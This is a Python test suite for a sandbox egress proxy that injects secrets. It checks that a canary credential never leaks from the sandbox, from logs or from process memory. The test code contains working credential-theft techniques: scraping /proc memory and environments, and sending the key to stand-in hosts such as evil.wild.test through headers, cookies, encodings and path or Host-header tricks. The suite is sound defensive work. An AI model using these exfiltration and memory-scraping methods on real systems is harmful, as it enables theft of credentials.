"""Attempts to get at the value of a secret, or to make the node send it elsewhere. The value is random and is searched for in everything
that a sandbox, a log reader or a thief of the disk could see."""
import base64
import json
import os
import re
import secrets
import socket
import subprocess
import time
import urllib.parse

from daemon import Daemon
from hutch_test import check, check_equal, check_in, eventually, skip
from internet import Internet, at
from netattack import box, denials, inside, network, node
from node_client import ask, sh
from shared import shared_world


def forms(value):
    """The value as others may write it."""
    raw = value.encode()
    out = {raw, urllib.parse.quote(value, safe="").encode(), raw.hex().encode(), raw[::-1]}
    for pre in (b"", b"x", b"xy", b"user:", b"u:"):
        out.add(base64.b64encode(pre + raw)[4 if pre else 0:-4])
    return {x for x in out if len(x) > 8}


def holds(data, value):
    return [x for x in forms(value) if x in data]


def store(d, name, value, **spec):
    message, stop = {"name": name, "value": value, "spec": spec}, time.monotonic() + 60
    while (a := ask(d, "POST", "/v1/secrets", message)).status == 503 and time.monotonic() < stop:
        time.sleep(0.1)  # egress is about to come
    check(a.status in (200, 201), a)
    check(not holds(a.body, value), "the API gives the value back")


def canary(kind="sk-live-"):
    return kind + secrets.token_hex(20)


RULE = {"id": "llm", "hosts": ["api.test"], "ports": [80, 443], "secrets": ["llm"], "http": [{"methods": ["GET", "POST", "PUT"]}]}


def world(d, value, rules=None, **spec):
    store(d, "llm", value, **{"bind": [{"hosts": ["api.test"], "paths": ["/echo", "/v1/**"]}], "env": "LLM_KEY", **spec})
    return box(d, {"rules": rules or [RULE, {"id": "rest", "hosts": ["other.test", "www.test", "*.wild.test"], "ports": [80, 443], "http": [{"methods": ["GET", "POST"]}]}]})


def got_value(net, value):
    """Requests that arrived with it, in any form."""
    return [(r["host"], r["path"]) for r in net.seen() if holds(json.dumps([r["path"], r["headers"]]).encode() + r["body"], value)]


def test_not_inside():
    "the value is nowhere in the sandbox: files, environments, arguments, memory, sockets, the policy that it may read; only a placeholder is"
    value = canary()
    with shared_world() as (net, d):
        b = world(d, value)
        check_equal(sh(d, b, "curl -sS -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $LLM_KEY\" https://api.test/echo").text, "200")
        check_equal(got_value(net, value), [("api.test", "/echo")], "the control: it does go where it is bound")
        got = inside(d, b, f"""
import base64
# The value comes in two halves, so that this program does not find itself.
value = ("{value[::-1]}"[::-1]).encode()
del value
want = "{value[:14][::-1]}", "{value[14:][::-1]}"
forms = lambda: [(want[0][::-1] + want[1][::-1]).encode()]
found, looked = [], 0
def look(where, data):
    global looked
    looked += 1
    for f in forms():
        i = data.find(f)
        if i >= 0: found.append(where)
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid(): continue
    for f in ("environ", "cmdline"):
        try: look(pid + f, open("/proc/%s/%s" % (pid, f), "rb").read())
        except OSError: pass
    try:
        maps = open("/proc/%s/maps" % pid).read().splitlines()
        mem = open("/proc/%s/mem" % pid, "rb", 0)
        for m in maps:
            a, e = (int(x, 16) for x in m.split()[0].split("-"))
            if " r" in m and e - a < 64 << 20:
                try: mem.seek(a); look(pid + " mem", mem.read(e - a))
                except OSError: pass
    except OSError: pass
for top in ("/tmp", "/run", "/home", "/root", "/etc", "/var", "/dev/shm", "/proc/self"):
    for folder, _, names in os.walk(top):
        if folder.startswith("/proc/self/") and folder.count("/") > 3: continue
        for n in names[:2000]:
            p = folder + "/" + n
            try:
                if os.path.isfile(p) and os.path.getsize(p) < 8 << 20 and not n in ("mem", "kmsg", "cmdline"): look(p, open(p, "rb").read(8 << 20))
            except OSError: pass
look("environment", repr(dict(os.environ)).encode())
for path in ("/v1/egress/policy", "/v1/egress/denials", "/v1/egress/help", "/", "/v1/egress/learned", "/ca.pem"):
    look(path, http(get(path, "sandbox.internal"), "sandbox.internal", 80).raw)
say([[f for f in found if f != "/proc/self/cmdline"], looked, os.environ["LLM_KEY"]])""", timeout=400)
        check_equal(got[0], [])
        check(got[1] > 50, "hardly anything was searched")
        check(len(got[2]) >= 20 and not holds(got[2].encode(), value), got[2])


def test_only_where_bound():
    "the placeholder is replaced toward the bound host, port, path and method in verified TLS, and nowhere else, however the request is dressed"
    value = canary()
    with shared_world() as (net, d):
        net.hosts["evil.wild.test"] = at(2)
        b = world(d, value, bind=[{"hosts": ["api.test"], "paths": ["/echo"], "methods": ["GET"]}])
        got = inside(d, b, """
import base64
K = os.environ["LLM_KEY"].encode()
A = b"Authorization: Bearer " + K + b"\\r\\n"
def q(path, more=A, host="api.test", **kw): return list(http(get(path, host, more), host, **kw))
out = {"bad": {}, "good": {}}
out["good"]["echo"] = q("/echo")
B = out["bad"]
B["other host"] = q("/echo", host="other.test")
B["other path"] = q("/v2")
B["path tricks"] = q("/echo/../v2"); B["path tricks 2"] = q("/v2/..;/echo"); B["path 3"] = q("/echo%2f..%2fv2"); B["path 4"] = q("/echo;x/y")
B["method"] = list(http(get("/echo", more=A + b"Content-Length: 0\\r\\n", method=b"POST")))
B["override"] = q("/echo", A + b"X-HTTP-Method-Override: PUT\\r\\n")
B["plain http"] = q("/echo", port=80)
B["proxy, plain"] = list(http(b"GET http://api.test/echo HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n" + A + b"\\r\\n", port=3128, to=GATE))
B["host header"] = list(http(get("/echo", "other.test", A)))
B["sni"] = list(http(get("/echo", "api.test", A), sni="other.test"))
B["absolute"] = list(http(b"GET https://other.test/echo HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n" + A + b"\\r\\n"))
B["via other"] = list(http(get("/echo", "api.test", A), "other.test"))
B["two hosts"] = list(http(get("/echo", "api.test", A + b"Host: other.test\\r\\n")))
B["path of other"] = list(http(get(b"/" + K, "other.test"), "other.test"))
B["query of other"] = list(http(get(b"/?k=" + K, "other.test"), "other.test"))
B["percent"] = list(http(get(b"/?k=" + b"".join(b"%%%02x" % c for c in K), "other.test"), "other.test"))
B["basic to other"] = list(http(get("/", "other.test", b"Authorization: Basic " + base64.b64encode(b"u:" + K) + b"\\r\\n"), "other.test"))
B["base64 of other"] = list(http(get("/", "other.test", b"X-T: " + base64.b64encode(K) + b"\\r\\n"), "other.test"))
B["cookie"] = list(http(get("/", "other.test", b"Cookie: a=" + K + b"\\r\\n"), "other.test"))
B["referer"] = list(http(get("/", "www.test", b"Referer: https://api.test/?" + K + b"\\r\\n"), "www.test"))
B["user-agent"] = list(http(get("/", "evil.wild.test", b"User-Agent: " + K + b"\\r\\n"), "evil.wild.test"))
h = H2("other.test"); h.request(1, "other.test", "/echo", more=[("authorization", b"Bearer " + K)]); B["h2 other"] = h.answer(1)
h = H2(); h.request(1, "other.test", "/echo", more=[("authorization", b"Bearer " + K)]); B["h2 authority"] = h.answer(1)
h = H2(); h.request(1, "api.test", "/echo", more=[("authorization", b"Bearer " + K), ("host", "other.test")]); B["h2 host"] = h.answer(1)
h = H2(); h.request(1, "api.test", "/echo", more=[("authorization", b"Bearer " + K)]); out["good"]["h2"] = h.answer(1)
# The same connection: first the bound request, then one that is not.
s = tls(dial("api.test")); s.sendall(get("/echo", more=A).replace(b"Connection: close\\r\\n", b"") + get("/v2", more=A)); out["pipelined"] = Http(read_all(s)).all
out["forged"] = q("/echo", b"Authorization: Bearer sbx-" + b"A" * 32 + b"\\r\\n")
out["half"] = q("/echo", b"Authorization: Bearer " + K[:-1] + b"\\r\\n")
out["upper"] = q("/echo", b"Authorization: Bearer " + K.swapcase() + b"\\r\\n")
out["split"] = q("/echo", b"X-A: " + K[:10] + b"\\r\\nX-B: " + K[10:] + b"\\r\\n")
out["key"] = K
say(out)""", timeout=300)
        check_equal((got["good"]["echo"], got["good"]["h2"], got["pipelined"]), ([200, ""], [200, ""], [200, 403]), got)
        for name, value_ in got["bad"].items():
            check(value_[0] in (400, 403, 421, -1), (name, value_))
        check_equal({x[1] for k, x in got["bad"].items() if k in ("other host", "cookie", "referer", "user-agent", "basic to other", "percent", "path of other")}, {"secret_violation"}, got["bad"])
        check_equal(got["bad"]["plain http"][1], "cleartext_not_allowed", got["bad"])
        where = got_value(net, value)
        check_equal(set(where), {("api.test", "/echo")}, where)
        check_equal(len(where), 3, "two by themselves, one in the pipeline")
        for name in ("forged", "half", "upper", "split"):
            check_equal(got[name][0], 200, name)
        seen = [r for r in net.seen() if got["key"] in json.dumps(r["headers"])]
        check_equal(seen, [], "the placeholder itself was sent")
        check_equal(net.seen("other.test") + net.seen("www.test") + net.seen("evil.wild.test"), [])


def test_bad_upstreams_get_nothing():
    "a server whose certificate is expired, for another name, of an unknown authority, or that speaks no TLS gets no byte of the request"
    value = canary()
    heard = []
    hosts = ["expired.test", "wrong.test", "unknown-ca.test", "plain.test", "api.test"]
    with shared_world() as (net, d):
        net.start_raw("plain.test", at(40), lambda s, log: heard.append(log), port=443)
        raw = net.start_raw("sink.test", at(41), lambda s, log: heard.append(log), port=443, tls=False)
        store(d, "llm", value, bind=[{"hosts": hosts}], env="LLM_KEY", inject={"type": "bearer"})
        b = box(d, {"rules": [{"id": "all", "hosts": hosts, "secrets": ["llm"], "http": [{"methods": ["GET"]}]}]})
        got = inside(d, b, f"say({{h: list(http(get('/echo', h), h, timeout=25)) for h in {hosts!r}}})", timeout=300)
        check_equal(got.pop("api.test"), [200, ""])
        check(all(v[0] in (502, 504) for v in got.values()), got)
        check_equal(set(v[1] for k, v in got.items() if k != "plain.test"), {"upstream_cert"}, got)
        check_equal(got_value(net, value), [("api.test", "/echo")])
        check(not heard and not any(holds(bytes(x), value) for x in raw.logs), heard)


def test_reflection():
    "a server that gives the value back, whole or in pieces, encoded, in headers or trailers, gives the placeholder to the sandbox"
    value = canary()
    v, b64 = value.encode(), base64.b64encode(("u:" + value).encode())
    pieces = {
        "/v1/body": b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\na %s b" % (len(v) + 4, v),
        "/v1/header": b"HTTP/1.1 200 OK\r\nX-Echo: Bearer %s\r\nSet-Cookie: k=%s\r\nContent-Length: 0\r\n\r\n" % (v, v),
        "/v1/location": b"HTTP/1.1 302 Found\r\nLocation: https://other.test/?k=%s\r\nContent-Length: 0\r\n\r\n" % v,
        "/v1/reason": b"HTTP/1.1 200 %s\r\nContent-Length: 0\r\n\r\n" % v,
        "/v1/json": b"HTTP/1.1 400 Bad\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{\"k\":\"%s\"}" % (len(v) + 8, v),
        "/v1/basic": b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s" % (len(b64), b64),
        "/v1/chunks": b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n" + b"".join(b"1\r\n%c\r\n" % c for c in v) + b"0\r\n\r\n",
        "/v1/trailer": b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n\r\n2\r\nok\r\n0\r\nX-T: %s\r\n\r\n" % v,
        "/v1/sse": b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\ndata: %s\n\n\r\n0\r\n\r\n" % (len(v) + 8, v),
        "/v1/close": b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\nk=%s" % v,
        "/v1/hint": b"HTTP/1.1 103 Early Hints\r\nLink: <%s>\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok" % v,
    }
    plain = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 5\r\n\r\nplain"

    def talk(s, log):
        path = re.findall(rb"GET (/\S*) HTTP", log)[-1].decode()
        answer = pieces.get(path, plain)
        if path in ("/v1/chunks", "/v1/body"):
            for i in range(0, len(answer), 7):
                s.sendall(answer[i:i + 7])
        else:
            s.sendall(answer)
        return path != "/v1/close"
    with shared_world() as (net, d):
        net.start_raw("mirror.test", at(42), talk, port=443, tls=True)
        store(d, "llm", value, bind=[{"hosts": ["mirror.test"]}], env="LLM_KEY", inject={"type": "replace"})
        b = box(d, {"rules": [{"id": "m", "hosts": ["mirror.test"], "secrets": ["llm"], "http": [{"methods": ["GET"]}]}]})
        code = f"""
K = os.environ["LLM_KEY"].encode()
out = {{"key": K}}
for p in {sorted(pieces) + ["/v1/none"]!r}:
    s = tls(dial("mirror.test"), "mirror.test")
    s.sendall(get(p, "mirror.test", b"Authorization: Bearer " + K + b"\\r\\nAccept-Encoding: gzip, br\\r\\n"))
    out[p] = read_all(s)
    h = H2("mirror.test"); h.request(1, "mirror.test", p, more=[("authorization", b"Bearer " + K)])
    h.answer(1); st = h.streams.get(1, {{}}); out["h2 " + p] = st.get("body", b"") + h.buf
say(out)"""
        got = inside(d, b, code, timeout=300)
        key = got.pop("key")
        for path, text in got.items():
            check(not holds(text.encode("latin1"), value), (path, text))
        for path in ("/v1/body", "/v1/header", "/v1/location", "/v1/json", "/v1/chunks", "/v1/trailer", "/v1/sse", "/v1/close", "h2 /v1/body", "h2 /v1/chunks"):
            check(key in got[path] or "redacted" in got[path], (path, got[path]))
        check("plain" in got["/v1/none"], got["/v1/none"])
        eventually(lambda: '"redactions":1' in d.cli("audit", "query", "--json").stdout.replace(" ", ""), 10, "the log says that something was hidden")


def test_other_sandboxes_placeholder():
    "a placeholder of another sandbox, an old one, and one of a secret that was removed are worth nothing"
    value = canary()
    with shared_world() as (net, d):
        a = world(d, value)
        b = box(d, {"rules": [RULE]})
        keys = [sh(d, x, "printf %s \"$LLM_KEY\"").text for x in (a, b)]
        check(keys[0] and keys[1] and keys[0] != keys[1], keys)
        curl = "curl -sS -o /dev/null -w '%{http_code} ' -H 'Authorization: Bearer {}' https://api.test/echo"
        check_equal(sh(d, a, curl.replace("{}", keys[0])).text, "200 ")
        check_equal(len(got_value(net, value)), 1)
        sh(d, b, curl.replace("{}", keys[0]))
        check_equal(len(got_value(net, value)), 1, "another sandbox's placeholder was replaced")
        check_equal(sh(d, b, curl.replace("{}", keys[1])).text, "200 ")
        check_equal(len(got_value(net, value)), 2)
        # Rotation: the placeholder stays, the new value goes out, the old one never again.
        new = canary()
        store(d, "llm", new, bind=[{"hosts": ["api.test"], "paths": ["/echo", "/v1/**"]}], env="LLM_KEY")
        eventually(lambda: sh(d, a, curl.replace("{}", keys[0])) and bool(got_value(net, new)), 10, "the new value is used")
        old = len(got_value(net, value))
        sh(d, a, curl.replace("{}", keys[0]))
        check_equal(len(got_value(net, value)), old)
        # Taken out of the rules, then removed.
        network(d, a, {"rules": [{k: v for k, v in RULE.items() if k != "secrets"}]})
        n = len(got_value(net, new))
        check_equal(sh(d, a, curl.replace("{}", keys[0])).text, "403 ")
        check_equal(ask(d, "DELETE", "/v1/secrets/llm").status, 204)
        check_equal(sh(d, b, curl.replace("{}", keys[1])).text, "403 ")
        check_equal(len(got_value(net, new)), n)
        check_in("secret_unbound", {x["reason"] for x in denials(d, a)})


def test_places():
    "a placeholder is replaced in the places that the spec lists, whole and in whatever framing; in others, and in what cannot be read, it stays one"
    value = canary()
    with shared_world() as (net, d):
        b = world(d, value, inject={"type": "replace", "in": ["header", "basic", "query", "body"]}, bind=[{"hosts": ["api.test"]}])
        got = inside(d, b, """
import base64, gzip
K = os.environ["LLM_KEY"].encode()
def post(body, more=b"", path="/echo"): return list(http(get(path, more=b"Content-Length: %d\\r\\n%s" % (len(body), more), method=b"POST") + body))
def chunked(parts, more=b""): return list(http(get("/echo", more=b"Transfer-Encoding: chunked\\r\\n" + more, method=b"POST") + b"".join(b"%x\\r\\n%s\\r\\n" % (len(p), p) for p in parts) + b"0\\r\\n\\r\\n"))
out = {}
out["header"] = list(http(get("/echo", more=b"X-Key: a " + K + b" b\\r\\n")))
out["basic"] = list(http(get("/echo", more=b"Authorization: Basic " + base64.b64encode(b"user:" + K) + b"\\r\\n")))
out["query"] = list(http(get(b"/echo?k=" + K + b"&x=1")))
out["json"] = post(b'{"key": "%s"}' % K, b"Content-Type: application/json\\r\\n")
out["form"] = post(b"a=1&key=%s" % K, b"Content-Type: application/x-www-form-urlencoded\\r\\n")
out["multipart"] = post(b"--x\\r\\nContent-Disposition: form-data; name=k\\r\\n\\r\\n%s\\r\\n--x--\\r\\n" % K, b"Content-Type: multipart/form-data; boundary=x\\r\\n")
out["split"] = chunked([K[:5], K[5:12], K[12:]], b"Content-Type: text/plain\\r\\n")
out["gzip"] = post(gzip.compress(K), b"Content-Encoding: gzip\\r\\nContent-Type: text/plain\\r\\n")
out["big"] = post(b"x" * 300000 + K, b"Content-Type: text/plain\\r\\n")
out["path"] = list(http(get(b"/echo/" + K)))
out["name"] = list(http(get("/echo", more=K + b": x\\r\\n")))
say(out)""", timeout=180)
        for name in ("header", "basic", "query", "json", "form", "multipart", "split"):
            check_equal(got[name], [200, ""], (name, got))
        check_equal(got["big"], [413, "body_too_large"], got)
        seen = net.seen()
        with_value = got_value(net, value)
        check_equal(len(with_value), 7, with_value)
        check(any(base64.b64encode(b"user:" + value.encode()).decode() in r["headers"].get("authorization", "") for r in seen), "basic")
        check(any(r["body"] == b'{"key": "%s"}' % value.encode() for r in seen), "json")
        check(any(r["body"] == value.encode() for r in seen), "the split one is whole")
        key = sh(d, b, "printf %s \"$LLM_KEY\"").text
        # In a path and in the name of a field nothing is replaced: the host it is bound to sees that it is a placeholder, and no more.
        kept = [r["path"] for r in seen if key.lower() in json.dumps([r["path"], r["headers"]]).lower() or key.encode() in r["body"]]
        check_equal(kept, [f"/echo/{key}", "/echo"])


def test_signing():
    "a request that is signed for the sandbox is signed for the bound host only, and one too large to sign is refused, not passed on"
    value = canary("AWSSECRET")
    with shared_world() as (net, d):
        store(d, "aws", value, bind=[{"hosts": ["api.test"]}], inject={"type": "sigv4", "region": "eu-central-1", "service": "execute-api", "access_key_id": "AKIAEXAMPLE"})
        b = box(d, {"rules": [{"id": "aws", "hosts": ["api.test"], "ports": [80, 443], "secrets": ["aws"], "http": [{"methods": ["GET", "POST"]}]}, {"id": "o", "hosts": ["other.test"], "http": [{"methods": ["GET"]}]}]})
        got = inside(d, b, """
out = {}
out["ok"] = http(get("/echo", more=b"Authorization: AWS4-HMAC-SHA256 Credential=FORGED/x, SignedHeaders=host, Signature=00\\r\\nX-Amz-Date: 20200101T000000Z\\r\\n")).status
body = b"x" * 300000
out["big"] = list(http(get("/echo", more=b"Content-Length: %d\\r\\n" % len(body), method=b"POST") + body))
out["streaming"] = list(http(get("/echo", more=b"Content-Length: 3\\r\\nX-Amz-Content-Sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD\\r\\n", method=b"POST") + b"abc"))
out["other"] = http(get("/echo", "other.test"), "other.test").status
out["plain"] = list(http(get("/echo"), port=80))
say(out)""", timeout=180)
        check_equal((got["ok"], got["other"]), (200, 200), got)
        check(got["big"][0] in (403, 413) and got["streaming"][0] in (400, 403), got)
        signed = [r for r in net.seen() if "AKIAEXAMPLE" in r["headers"].get("authorization", "")]
        check_equal([(r["host"], r["method"], r["path"]) for r in signed], [("api.test", "GET", "/echo")], net.seen())
        check("FORGED" not in json.dumps([r["headers"] for r in net.seen()]), "the client's signature was sent")
        check("authorization" not in net.seen("other.test")[0]["headers"], net.seen("other.test"))
        check_equal(got_value(net, value), [], "the key itself never goes out")


def memory_holds(pid, needle):
    """Where in a process's memory the bytes stand; None: it may not be read. Read from outside, as root."""
    found = []
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, mode = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if mode[0] != "r" or end - start > 1 << 30 or "[vvar" in line or "[vsyscall]" in line:
                    continue
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except OSError:
                    continue
                at = data.find(needle)
                while at >= 0:
                    found.append((hex(start + at), line.split(maxsplit=5)[5:] or ["anonymous"], data[max(0, at - 24):at + len(needle) + 24]))
                    at = data.find(needle, at + 1)
    except OSError:
        return None
    return found


def test_nowhere_but_in_egress():
    "after use the value is in no file, log, database, metric, or memory of the other processes; egress has it locked and not dumpable"
    value = canary()
    with Internet() as net, Daemon(config=net.config() + "log:\n  level: debug\n") as d:
        b = world(d, value)
        sh(d, b, "for i in 1 2 3; do curl -sS -H \"Authorization: Bearer $LLM_KEY\" https://api.test/echo; curl -sS -H \"X: $LLM_KEY\" https://other.test/; curl -sS -H \"Authorization: Bearer $LLM_KEY\" https://api.test/v2; done")
        check_equal(set(got_value(net, value)), {("api.test", "/echo")})
        places = {"log": d.log_path.read_bytes(), "metrics": ask(d, "GET", "/metrics").body, "audit": d.cli("audit", "query", "--json").stdout.encode(),
                  "denials": json.dumps(denials(d, b)).encode(), "events": ask(d, "GET", f"/v1/sandboxes/{b['sandboxID']}/events?follow=false").body, "list": ask(d, "GET", "/v1/secrets").body,
                  "secret": ask(d, "GET", "/v1/secrets/llm").body, "network": ask(d, "GET", f"/v1/sandboxes/{b['sandboxID']}/network").body, "e2b": ask(d, "GET", f"/sandboxes/{b['sandboxID']}").body}
        for folder, _, names in os.walk(d.dir):
            for name in names:
                path = os.path.join(folder, name)
                if os.path.isfile(path) and not os.path.islink(path) and os.path.getsize(path) < 64 << 20 and "/templates/" not in path:
                    places[path] = open(path, "rb").read()
        check(any(p.endswith("store.db") for p in places) and any("/audit/" in p for p in places), list(places))
        check_equal([p for p, data in places.items() if holds(data, value)], [])
        egress = d.children("egress")[0]
        check(memory_holds(egress, value.encode()), "the control: egress has it, and this search finds it there")
        status = dict(x.split(":", 1) for x in open(f"/proc/{egress}/status").read().splitlines() if ":" in x)
        check(int(status["VmLck"].split()[0]) > 0, "nothing is locked")
        check_equal(status["NoNewPrivs"].strip(), "1")
        check_equal(int(status["CapEff"], 16), 0)
        check_equal(open(f"/proc/{egress}/limits").read().split("Max core file size")[1].split()[0], "0")
        check_equal(os.stat(f"/proc/{egress}/mem").st_uid, 0, "dumpable: others of its user could read it")
        for who in ("front", "keeper"):
            for pid in d.children(who):
                check_equal(memory_holds(pid, value.encode()), [], f"{who} still has the value")
        check_equal(memory_holds(d.proc.pid, value.encode()), [], "supervisor")
        for pid in subprocess.run(["pgrep", "-f", "hutch-init"], text=True, capture_output=True).stdout.split():
            check(not memory_holds(pid, value.encode()), "init")


def locked(pid):
    """Where a process keeps what is neither swapped nor dumped."""
    found, span = [], None
    for line in open(f"/proc/{pid}/smaps"):
        if m := re.match(r"([0-9a-f]+)-([0-9a-f]+) ", line):
            span = (int(m[1], 16), int(m[2], 16))
        elif line.startswith("VmFlags:") and " dd" in line:
            found.append(span)
    return found


def loose(pid, needle):
    """Copies elsewhere. A 2 KiB piece of a long value is enough to be found."""
    safe = locked(pid)
    return [x for x in memory_holds(pid, needle[:2048]) or [] if not any(a <= int(x[0], 16) < b for a, b in safe)]


def test_memory_of_front_right_after():
    "the moment a value is answered for, taken or refused, however it came, front has no copy of it left"
    with node() as (_, d):
        front, small = d.children("front")[0], canary()
        store(d, "first", small, bind=[{"hosts": ["api.test"]}])
        if memory_holds(front, b"hutch") is None:
            skip("the memory of front cannot be read here")
        bound = {"bind": [{"hosts": ["api.test"]}], "inject": {"type": "bearer"}}

        def raw(head, *parts):
            with socket.create_connection(("127.0.0.1", d.port)) as s:
                s.sendall(head)
                for p in parts:
                    time.sleep(0.05)
                    s.sendall(p)
                s.settimeout(60)
                return s.recv(65536)

        def body(value):
            return json.dumps({"value": value, "spec": bound}).encode()

        def head(extra):
            return b"PUT /v1/secrets/raw HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-KEY: " + d.key.encode() + b"\r\nContent-Type: application/json\r\nConnection: close\r\n" + extra + b"\r\n"

        def chunked(text):
            cut = [text[:40], text[40:55], text[55:]]
            return raw(head(b"Transfer-Encoding: chunked\r\n"), *[b"%x\r\n%s\r\n" % (len(x), x) for x in cut], b"0\r\n\r\n")
        ways = {
            "taken": lambda v: ask(d, "PUT", "/v1/secrets/one", {"value": v, "spec": bound}),
            "long": lambda v: ask(d, "PUT", "/v1/secrets/long", {"value": v * 1200, "spec": bound}),
            "new version": lambda v: ask(d, "PUT", "/v1/secrets/one", {"value": v}),
            "escaped": lambda v: ask(d, "PUT", "/v1/secrets/esc", {"value": v + "\u00e9\U0001f511", "spec": {"bind": [{"hosts": ["api.test"]}], "inject": {"type": "replace", "in": ["body"]}}}),
            "E2B": lambda v: ask(d, "POST", "/secrets", {"name": "e2b" + v[-4:], "value": v}),
            "refused, wrong spec": lambda v: ask(d, "PUT", "/v1/secrets/two", {"value": v, "spec": {"bind": 3}}),
            "refused, wrong field": lambda v: ask(d, "PUT", "/v1/secrets/two", {"value": v, "vaule": v}),
            "refused, no name": lambda v: ask(d, "POST", "/v1/secrets", {"value": v}),
            "refused, not JSON": lambda v: raw(head(b"Content-Length: %d\r\n" % (len(v) + 12)), b'{"value": "' + v.encode() + b'!'),
            "in two pieces": lambda v: raw(head(b"Content-Length: %d\r\n" % len(body(v))), body(v)[:30], body(v)[30:]),
            "in chunks": lambda v: chunked(body(v)),
        }
        for way, send in ways.items():
            value = canary()
            send(value)
            # The answer is here a moment before front is through with it, on a machine with much to do.
            eventually(lambda: not loose(front, value.encode()), 10, f"{way}: {[x[1:] for x in loose(front, value.encode())]}", strict=True)
        check(len(ask(d, "GET", "/v1/secrets").json["secrets"]) >= 5, "they were stored")


def test_memory_of_egress_right_after():
    "a value that was put in and echoed is in locked memory only, once the answer is through"
    value = canary()
    with node() as (net, d):
        b = world(d, value)
        egress = d.children("egress")[0]
        for how in ("", "--http1.1", "-d x", "--http1.1 -d x", "-o /dev/null --max-time 1 --limit-rate 1"):
            r = sh(d, b, f"curl -sS {how} -H \"Authorization: Bearer $LLM_KEY\" https://api.test/echo")
            check(value not in r.text, "the control")
            eventually(lambda: not loose(egress, value.encode()), 10, f"{how}: {[x[1:] for x in loose(egress, value.encode())]}", strict=True)
        check_equal(set(got_value(net, value)), {("api.test", "/echo")})
        check(memory_holds(egress, value.encode()), "the control: it is there, locked")
        # HTTP/2 keeps a table of what was sent, as long as a connection lives
        net.hosts["h2.test"] = at(8)
        net.start_h2(d.dir)
        other = canary()
        store(d, "h2", other, bind=[{"hosts": ["h2.test"]}], inject={"type": "set", "header": "x-api-key", "format": "{value}"})
        b = box(d, {"rules": [{"id": "h2", "hosts": ["h2.test"], "secrets": ["h2"]}]})
        r = sh(d, b, "curl -sS -o /dev/null -w '%{http_code}' https://h2.test/none")
        check_equal(r.text, "404", r)
        eventually(lambda: not loose(egress, other.encode()), 10, [x[1:] for x in loose(egress, other.encode())], strict=True)


def test_memory_after_removal():
    "a removed secret is refused at once and its value is overwritten in egress"
    value = canary()
    with node() as (net, d):
        b = world(d, value)
        curl = "curl -sS -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $LLM_KEY\" https://api.test/v1/none"
        check_equal(sh(d, b, curl).text, "200")
        egress = d.children("egress")[0]
        before = memory_holds(egress, value.encode())
        if before is None:
            skip("the memory of egress cannot be read here")
        check(before, "the control")
        check_equal(ask(d, "DELETE", "/v1/secrets/llm").status, 204)
        eventually(lambda: sh(d, b, curl).text == "403", 5, "it is refused")
        check_equal(memory_holds(egress, value.encode()), [], "the value stayed in memory")
        check_equal(len(got_value(net, value)), 1)


def test_restart_keeps_it_sealed():
    "egress and front that were killed serve the secret again from its sealed form; the sandbox's placeholder still works"
    value = canary()
    with node() as (net, d):
        b = world(d, value)
        curl = "curl -sS -o /dev/null -w '%{http_code}' --max-time 10 -H \"Authorization: Bearer $LLM_KEY\" https://api.test/echo"
        check_equal(sh(d, b, curl).text, "200")
        for who in ("egress", "front"):
            d.kill9(who)
            eventually(d.alive, 20, "front answers")
            eventually(lambda: sh(d, b, curl).text == "200", 120, f"after {who} was killed")
            for pid in d.children("front"):
                check_equal(memory_holds(pid, value.encode()), [], "front has the value")
        check_equal(set(got_value(net, value)), {("api.test", "/echo")})
        check(all(holds(json.dumps(r["headers"]).encode(), value) for r in net.seen("api.test")), "a request went out without it")
